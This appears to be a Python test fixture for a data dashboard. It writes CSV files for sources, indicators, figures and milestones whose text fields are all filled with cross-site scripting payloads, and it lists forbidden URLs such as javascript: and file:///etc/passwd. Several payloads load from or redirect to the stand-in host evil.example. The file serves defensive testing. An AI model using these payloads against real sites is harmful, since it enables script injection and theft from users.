"""A world whose every text is an attempt to run a script in the reader's browser, loaded as an admin would load it."""

import csv
from collections.abc import Iterable, Sequence
from pathlib import Path

from dashboard import cli

# Each would run `alert` or mark the window (`hit`) if a page, a chart or an attribute took it for more than words.
PAYLOADS: Sequence[str] = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    '<a href="javascript:alert(1)">press</a> <b>bold</b> <br> &lt;script&gt;',
    "</script><script>alert(1)</script>",
    "' onmouseover='alert(1)' x='",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)} %(title)s %{x} $\\href{javascript:alert(1)}{x}$",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<img src=x onerror=alert(1)//",
    "<IMG SRC=javascript:alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<input autofocus onfocus=alert(1)>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<form action=http://evil.example/><button>send</button></form>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=http://evil.example/x.svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<xmp><script>alert(1)</script></xmp>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</select><img src=x onerror=alert(1)>",
    "<b style='background:url(http://evil.example/x)'>x</b>",
    '<span style="color:red;position:fixed;inset:0">over everything</span>',
    "<sup>1</sup><sub>2</sub><i>i</i><em>e</em> &amp;lt; &#60;img src=x onerror=alert(1)&#62;",
    "\\u003cimg src=x onerror=alert(1)\\u003e \\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "javascript:alert(1)//",
    "<a href='data:text/html,<script>alert(1)</script>'>press</a>",
    '=HYPERLINK("http://evil.example/","x") @import <? alert(1) ?> <% alert(1) %> `${window.hit=1}`',
)
PLACES = ("KGZ", "KAZ", "TJK", "UZB")  # the countries by turns, so that no page carries all of them
# Those that an admin may not load: each names no page, or hides where it leads.
NO_ADDRESSES: Sequence[str] = (
    *(
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        " javascript:alert(1)",
        "java\nscript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
    ),
    *(
        "vbscript:msgbox(1)",
        "//evil.example",
        "/places",
        "file:///etc/passwd",
        'https://x.example/"onclick="alert(1)',
        "https://<script>",
    ),
)


def write(folder: Path, payloads: Sequence[str]) -> Path:
    """Sources, indicators, figures and milestones with payloads[n] in every text column of the rows numbered n."""
    _table(folder / "sources.csv", [_source(n, text) for n, text in enumerate(payloads)])
    _table(folder / "indicators.csv", [_indicator(n, text) for n, text in enumerate(payloads)])
    figures = [row for n, text in enumerate(payloads) for row in _figures(n, text, len(payloads))]
    _table(folder / "figures.csv", figures)
    _table(folder / "milestones.csv", [row for n, text in enumerate(payloads) for row in _milestones(n, text)])
    return folder


def load(folder: Path, database: str, words: str) -> None:
    """As an admin would, by the command line; `words` are their name and their note."""
    code = cli.main(["load", str(folder), "--database", database, "--by", words, "--note", words])
    assert code == 0


def _source(n: int, text: str) -> dict[str, str]:
    words = dict.fromkeys(("title", "producer", "authors", "language", "read_from", "licence", "citation_full", "note"), text)
    url = f"https://source.example/{n}?a=1&b='c'&lt;"
    return {"key": f"source-{n}", "kind": "news", "date_published": "2013", **words, "url": url, "licence_url": url}


def _indicator(n: int, text: str) -> dict[str, str]:
    columns = ("title", "definition", "target_population", "numerator", "denominator", "unit", "family", "code", "note")
    return {"key": f"indicator-{n}", "kind": "count", "topic": "injecting", **dict.fromkeys(columns, text)}


def _figures(n: int, text: str, of: int) -> list[dict[str, str]]:
    """Two rivals and a third about a group, and one that repeats a statement of the source before."""
    words = dict.fromkeys(("as_printed", "reported_as", "claimant", "quote", "locator", "original", "note"), text)
    said = {"place": PLACES[n % len(PLACES)], "claimant_kind": "expert", "attribution": "quoted", "method": "expert", **words}
    own = {**said, "source": f"source-{n}", "indicator": f"indicator-{n}", "as_printed": ""}
    other = {**own, "source": f"source-{(n + 1) % of}"}
    return [
        {**own, "period": "2010", "value": "1000", "qualifier": "about"},
        {**own, "period": "2010", "value": "900", "group": text},
        {**own, "period": "2011", "qualifier": "in_words", "as_printed": text},
        {**other, "period": "2012", "lower": "2000", "qualifier": "more_than", "attribution": "interview"},
        {**other, "period": "2010", "value": "1000", "quotes": f"source-{n}/indicator-{n}/{own['place']}/2010"},
    ]


def _milestones(n: int, text: str) -> list[dict[str, str]]:
    columns = ("title", "description", "claimant", "quote", "locator", "original", "note")
    said = {"source": f"source-{n}", "place": PLACES[n % len(PLACES)], **dict.fromkeys(columns, text)}
    said |= {"claimant_kind": "expert", "attribution": "interview"}
    return [{**said, "date": "2001", "category": "law"}, {**said, "date": "2003/2005", "category": "pilot"}]


def _table(file: Path, rows: Iterable[dict[str, str]]) -> None:
    held = list(rows)
    with file.open("w", encoding="utf-8", newline="") as opened:
        table = csv.DictWriter(opened, list(dict.fromkeys(name for row in held for name in row)), restval="")
        table.writeheader()
        table.writerows(held)
